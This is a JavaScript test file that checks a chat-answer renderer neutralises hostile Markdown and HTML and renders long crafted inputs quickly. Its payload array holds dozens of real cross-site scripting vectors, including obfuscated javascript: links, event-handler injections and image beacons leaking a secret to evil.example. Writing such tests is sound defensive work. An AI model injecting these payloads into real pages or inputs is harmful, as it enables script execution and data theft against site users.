// Answers are untrusted: HTML has no effect, and no text takes long.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { startAnswers } from "./answers.js";

let service;
let tab;
let answers;
before(async () => ({ service, tab, answers } = await startAnswers()));
after(() => service.close());

const HOSTILE = [
  "<script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<img src='/leak.png'>",
  "<svg onload=pwned()><script>pwned()</script></svg>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<details open ontoggle=pwned()>",
  "<style>@import '/leak.css'; * { background: url(/leak.png) }</style>",
  "<link rel=stylesheet href=/leak.css><base href=https://evil.example/>",
  "<form action=/leak><input name=a onfocus=pwned() autofocus></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
  "<a href='javascript:pwned()'>x</a>",
  "[a](javascript:pwned())",
  "[a](JaVaScRiPt:pwned())",
  "[a](java\tscript:pwned())",
  "[a](<java\nscript:pwned()>)",
  "[a](&#106;avascript:pwned())",
  "[a](javascript&colon;pwned())",
  "[a](\\javascript:pwned())",
  "[a]( javascript:pwned())",
  "[a](\u0001javascript:pwned())",
  "[a](data:text/html,<script>pwned()</script>)",
  "[a](vbscript:pwned())",
  "[a](blob:https://x.example/1)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example)",
  "[a](https://x.example\" onmouseover=\"pwned())",
  "[a](https://x.example 'onclick=pwned()')",
  "![a](https://evil.example/leak.png?q=secret)",
  "![a\" onerror=\"pwned()](x)",
  "![a](javascript:pwned())",
  "<javascript:pwned()>",
  "<https://x.example/\" onclick=\"pwned()>",
  "https://x.example/\"onmouseover=\"pwned()",
  "```\"><img src=x onerror=pwned()>\ncode\n```",
  "```html onload=pwned()\n<script>pwned()</script>\n```",
  "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <script>pwned()</script> | [a](javascript:pwned()) |",
  "# <img src=x onerror=pwned()>",
  "> <script>pwned()</script>",
  "- <script>pwned()</script>",
  "`<img src=x onerror=pwned()>`",
  "**<b onclick=pwned()>x</b>**",
  "[<img src=x onerror=pwned()>](https://x.example)",
  "[a]: javascript:pwned()\n\n[a]",
  "<al-chat-window api=https://evil.example></al-chat-window>",
  "<slot></slot><template><script>pwned()</script></template>",
  "<br onclick=pwned()><br/onfocus=pwned() autofocus>",
  "&lt;img src=x onerror=pwned()&gt;",
  "&#60;script&#62;pwned()&#60;/script&#62;",
  "&amp;lt;img src=x onerror=pwned()&amp;gt;",
  "[a](java&Tab;script:pwned())",
  "[a](&#x6A;avascript&#58;pwned())",
  "<think><img src=x onerror=pwned()></think>",
  "<think>[a](javascript:pwned())\n</think>\n[b](javascript:pwned())",
  "\\(<img src=x onerror=pwned()>\\)",
  "\\[\n<script>pwned()</script>\n\\]",
  "$<img src=x onerror=pwned()>^2$",
  "- [x] <img src=x onerror=pwned()>",
  "- [x onclick=pwned()] a",
  "<b><sub><img src=x onerror=pwned()></sub></b>",
  "<www.x.example\" onclick=\"pwned()> www.x.example/\"onclick=\"pwned()",
  "<a@b.example?body=\"onclick=pwned()>",
  "| a |\n|:-:\" onclick=\"pwned()|\n| b |",
  "{{constructor.constructor('pwned()')()}}",
  "\u202e<script>pwned()</script>",
  "<!--<script>pwned()</script>-->",
  "<![CDATA[<script>pwned()</script>]]>",
];

const TAGS =
  "A BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM H3 H4 H5 H6 HR INPUT LABEL LI OL P PRE SPAN STRONG SUMMARY TABLE TBODY TD TH THEAD TR UL".split(" ");
const ATTRIBUTES = "checked class dir disabled href part rel scope start tabindex target type".split(" ");

test("hostile Markdown and HTML have no effect", async () => {
  let pwned = 0;
  await tab.page.exposeFunction("pwned", () => (pwned += 1));
  tab.page.on("dialog", (dialog) => (pwned += 1, dialog.dismiss()));
  const requests = tab.requests();
  const attempts = [...HOSTILE.map((text) => [text]), [HOSTILE.join("\n\n"), 5], [HOSTILE.join(" "), 11]];
  for (const [text, size] of attempts) {
    await answers.show(text, size);
    const found = await tab.answer.evaluate((body) =>
      [...body.querySelectorAll("*")].map(({ tagName, attributes, href }) => ({
        tag: tagName,
        names: [...attributes].map(({ name }) => name),
        href,
      })),
    );
    for (const { tag, names, href } of found) {
      assert.ok(TAGS.includes(tag), `${tag} from ${text}`);
      for (const name of names) assert.ok(ATTRIBUTES.includes(name), `${name} from ${text}`);
      if (tag === "A") assert.match(href, /^(https?|mailto):/, text);
    }
  }
  // The same for a visitor's message and a file's name.
  await tab.page.locator("input[type=file]").setInputFiles({
    name: "<img src=x onerror=pwned()>.txt",
    mimeType: "text/plain",
    buffer: Buffer.from("x"),
  });
  await tab.askAndWait("<img src=x onerror=pwned()>");
  assert.equal(await tab.page.locator("img, script:not([src]), iframe, svg [onload]").count(), 0);
  assert.equal(pwned, 0);
  const strange = requests.map((request) => new URL(request.url()).pathname).filter((path) => !path.startsWith("/api/"));
  // The window's own script, which reads attached files.
  assert.deepEqual(strange, ["/chat-window-on-demand.js"]);
});

test("long hostile texts render in time", async () => {
  const patterns = ["*a_b", "[a](b ", "`a``b", "> ", "  - a\n", "a|b\n-|-\n", "https://x.y/)))))", "a\n", "\\(", "&amp;", "<think>", "- [ ] a\n"];
  for (const pattern of patterns) {
    const began = Date.now();
    await answers.show(pattern.repeat(30_000 / pattern.length), 3000);
    const took = Date.now() - began;
    assert.ok(took < 10_000, `${JSON.stringify(pattern)} took ${took} ms`);
  }
});
